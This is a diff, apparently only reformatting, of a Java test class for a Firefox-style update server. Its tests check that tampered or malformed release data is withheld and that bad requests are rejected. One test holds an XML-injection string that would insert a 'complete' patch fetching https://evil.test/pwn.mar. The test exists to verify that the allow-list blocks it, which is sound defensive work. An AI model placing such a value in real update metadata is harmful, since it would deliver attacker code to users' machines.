@@ -69,16 +69,16 @@ class UnsafeReleasesTest {
     }
 
     private static List<Finding> findings(String body) {
-        return new ResponseVerifier(DomainAllowlist.of(
-                        SampleState.CONFIG.path("ALLOWLISTED_DOMAINS")))
+        return new ResponseVerifier(DomainAllowlist.of(SampleState.CONFIG.path("ALLOWLISTED_DOMAINS")))
                 .verifyXml(body, "Firefox");
     }
 
     /** Finding 1: text of a release opens no attribute or element, so that no URL gets past the allow-list. */
     @Test
     void finding1MarkupInAReleaseReachesClientsAsText() throws IOException {
-        String injected = "00\" size=\"1\"/><patch type=\"complete\" URL=\"https://evil.test/pwn.mar\" hashFunction=\"sha512\""
-                + " hashValue=\"11";
+        String injected =
+                "00\" size=\"1\"/><patch type=\"complete\" URL=\"https://evil.test/pwn.mar\" hashFunction=\"sha512\""
+                        + " hashValue=\"11";
         ObjectNode state = state();
         patch(state).put("hashValue", injected);
         release(state).put("displayVersion", "2.0\"></update><update type=\"minor\" appVersion=\"9");
@@ -103,14 +103,17 @@ class UnsafeReleasesTest {
             assertThat(response.status()).isEqualTo(200);
             assertThat(response.header("rule-id")).isEqualTo("1");
             assertThat(response.body()).isEqualTo("<?xml version=\"1.0\"?>\n<updates>\n</updates>");
-            assertThat(app.reported()).singleElement().satisfies(error -> assertThat(error)
-                    .hasMessageContaining("Firefox-2.0")
-                    .hasMessageContaining("withheld")
-                    .hasMessageContaining("/platforms/Linux/locales/de"));
+            assertThat(app.reported())
+                    .singleElement()
+                    .satisfies(error -> assertThat(error)
+                            .hasMessageContaining("Firefox-2.0")
+                            .hasMessageContaining("withheld")
+                            .hasMessageContaining("/platforms/Linux/locales/de"));
             assertThat(app.measurements())
                     .contains("balrog_snapshot_releases_withheld 1.0")
                     .contains("balrog_snapshot_releases_findings{kind=\"malformed\"} 1.0")
-                    .contains("balrog_answers_total{channel=\"release\",outcome=\"no_such_release\",product=\"Firefox\"}");
+                    .contains(
+                            "balrog_answers_total{channel=\"release\",outcome=\"no_such_release\",product=\"Firefox\"}");
         }
     }
 
@@ -134,7 +137,8 @@ class UnsafeReleasesTest {
             assertThat(get(app, SampleState.OFFERED_2_0.replace("/de/", "/%25VERSION%25/"))
                             .body())
                     .contains("https://good.test/%VERSION%/x?v=1.0&amp;o=Linux");
-            assertThat(get(app, SampleState.OFFERED_2_0.replace("/de/", "/d%01e/")).status())
+            assertThat(get(app, SampleState.OFFERED_2_0.replace("/de/", "/d%01e/"))
+                            .status())
                     .isEqualTo(400);
             assertThat(app.reported()).isEmpty();
         }
@@ -154,7 +158,8 @@ class UnsafeReleasesTest {
         ObjectNode state = state();
         ObjectNode platform = (ObjectNode) release(state).at("/platforms/Linux");
         switch (what) {
-            case "fileUrls" -> release(state).set("fileUrls", TestApp.JSON.readTree("{\"release\": {\"partials\": {}}}"));
+            case "fileUrls" ->
+                release(state).set("fileUrls", TestApp.JSON.readTree("{\"release\": {\"partials\": {}}}"));
             case "appVersion" -> release(state).put("appVersion", "1.21.15b");
             default -> platform.remove(what.substring(1));
         }
@@ -167,16 +172,19 @@ class UnsafeReleasesTest {
                 assertThat(response.body()).isEqualTo(message);
             }
             assertThat(app.measurements())
-                    .contains("balrog_answers_total{channel=\"release\",outcome=\"bad_release\",product=\"Firefox\"} 5.0")
+                    .contains(
+                            "balrog_answers_total{channel=\"release\",outcome=\"bad_release\",product=\"Firefox\"} 5.0")
                     .contains("balrog_rule_answers_total{outcome=\"bad_release\",rule=\"1\"} 5.0")
                     .contains("balrog_snapshot_releases_findings{kind=\"unanswerable\"} 1.0")
                     .contains("balrog_snapshot_releases_withheld 0.0")
                     .doesNotContain("outcome=\"update\"");
             // Once when it is verified, and once when a client asks for it.
             assertThat(before).isEqualTo(1);
-            assertThat(app.reported()).hasSize(2).allSatisfy(error -> assertThat(error)
-                    .hasMessageContaining("Firefox-2.0")
-                    .hasMessageContaining(message));
+            assertThat(app.reported())
+                    .hasSize(2)
+                    .allSatisfy(error -> assertThat(error)
+                            .hasMessageContaining("Firefox-2.0")
+                            .hasMessageContaining(message));
         }
     }
 
@@ -185,11 +193,16 @@ class UnsafeReleasesTest {
         try (TestApp app = start(ContentChecks.STRICT, state())) {
             assertThat(get(app, SampleState.OFFERED_2_0.replace("/1.0/", "/x/")).status())
                     .isEqualTo(400);
-            assertThat(get(app, SampleState.OFFERED_2_0.replace("/1.0/", "/2.0/").replace("/de/", "/xx/"))
+            assertThat(get(
+                                    app,
+                                    SampleState.OFFERED_2_0
+                                            .replace("/1.0/", "/2.0/")
+                                            .replace("/de/", "/xx/"))
                             .status())
                     .isEqualTo(400);
             assertThat(app.measurements())
-                    .contains("balrog_answers_total{channel=\"release\",outcome=\"bad_request\",product=\"Firefox\"} 2.0");
+                    .contains(
+                            "balrog_answers_total{channel=\"release\",outcome=\"bad_request\",product=\"Firefox\"} 2.0");
             assertThat(app.reported()).isEmpty();
         }
     }
@@ -203,8 +216,9 @@ class UnsafeReleasesTest {
             assertThat(get(app, SampleState.OFFERED_2_0).status()).isEqualTo(400);
             assertThat(app.measurements())
                     .contains("balrog_answers_total{channel=\"none\",outcome=\"bad_rule\",product=\"none\"} 2.0");
-            assertThat(app.reported()).singleElement().satisfies(error ->
-                    assertThat(error).hasMessageContaining("Version number x is invalid."));
+            assertThat(app.reported())
+                    .singleElement()
+                    .satisfies(error -> assertThat(error).hasMessageContaining("Version number x is invalid."));
         }
     }
 
